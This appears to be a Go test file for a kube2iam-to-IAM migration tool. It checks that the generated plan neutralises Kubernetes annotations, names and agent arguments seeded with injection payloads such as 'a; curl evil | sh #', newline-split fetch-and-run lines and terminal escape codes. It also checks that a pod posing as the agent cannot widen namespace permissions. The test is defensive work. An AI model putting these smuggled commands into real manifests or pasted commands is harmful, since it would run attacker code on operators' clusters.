package migrate_test

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/kube-iam-assume/kube-iam-assume/cli/migrate"
)

// hostile is a cluster in which somebody who may only make pods in the namespace evil calls one of them as the agent is called, and writes into
// annotations what he wants to be pasted.
const hostile = `apiVersion: v1
kind: Namespace
metadata: {name: evil, annotations: {"a; curl evil | sh #": "[]", iam.amazonaws.com/allowed-roles: '["small"]'}}
---
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: kube2iam, namespace: kube-system}
spec: {template: {spec: {containers: [{name: a, image: jtblin/kube2iam, args: [--namespace-restrictions]}]}}}
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: taker, namespace: evil, annotations: {meta.helm.sh/release-name: "x\ncurl evil | sh", iam.amazonaws.com/role: "x\ncurl evil | sh"}}
spec: {template: {metadata: {annotations: {iam.amazonaws.com/role: ROLE}}, spec: {containers: [{name: a, image: a}]}}}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: "b\ncurl evil | sh \e[2J", namespace: evil}
subjects: [{kind: ServiceAccount, name: default}]
`

const posing = `---
apiVersion: apps/v1
kind: Deployment
metadata: {name: poser, namespace: evil}
spec: {template: {spec: {containers: [{name: a, image: evil/kube2iam, args: [--namespace-restrictions=false, "--namespace-key=a; curl evil | sh #"]}]}}}
`

func hostilePlan(t *testing.T, cluster, args string) (string, error) {
	t.Helper()
	file := filepath.Join(t.TempDir(), "cluster.yaml")
	if err := os.WriteFile(file, []byte(cluster), 0o600); err != nil {
		t.Fatal(err)
	}
	return plan("kube2iam --issuer https://oidc.example.com/prod --account 111122223333 -f " + file + " " + args)
}

// What is written into annotations and names stays on its line, and begins no command.
func TestNothingToPaste(t *testing.T) {
	t.Parallel()
	for _, role := range []string{"small", `"x\ncurl evil | sh"`, `"\e]0;x\a"`} {
		got, err := hostilePlan(t, strings.Replace(hostile, "ROLE", role, 1), "")
		if err != nil && !errors.Is(err, migrate.ErrDecisions) {
			t.Fatal(err)
		}
		if strings.Contains(got, "\ncurl evil") || strings.ContainsAny(got, "\x1b\a") || role == "small" && !strings.Contains(got, `(x\ncurl evil | sh) makes it`) {
			t.Errorf("%s: %s", role, got)
		}
	}
	none := strings.NewReplacer("metadata: {annotations: {iam.amazonaws.com/role: ROLE}}, ", "", "args: [", `args: ["--namespace-key=a; curl evil | sh #", `).Replace(hostile)
	if got, err := hostilePlan(t, none, ""); err != nil || !strings.Contains(got, "annotate namespace evil 'a; curl evil | sh #-'") {
		t.Errorf("an argument of the agent's is not quoted: %v: %s", err, got)
	}
}

// Who calls his pod as the agent is called does not say what namespaces allow.
func TestPoser(t *testing.T) {
	t.Parallel()
	const admin = "arn:aws:iam::111122223333:role/admin"
	cluster := strings.Replace(hostile, "ROLE", "admin", 1) + posing
	got, err := hostilePlan(t, cluster, "")
	if !errors.Is(err, migrate.ErrDecisions) || !strings.Contains(got, "evil/Deployment/poser, kube-system/DaemonSet/kube2iam") || !strings.Contains(got, "NOT YET") {
		t.Errorf("%v: %s", err, got)
	}
	got, err = hostilePlan(t, cluster, "--agent-namespace kube-system")
	if !errors.Is(err, migrate.ErrDecisions) || strings.Contains(got, "patch deployment") || !strings.Contains(got, admin+", which the annotation iam.amazonaws.com/allowed-roles of its namespace does not allow") {
		t.Errorf("%v: %s", err, got)
	}
}
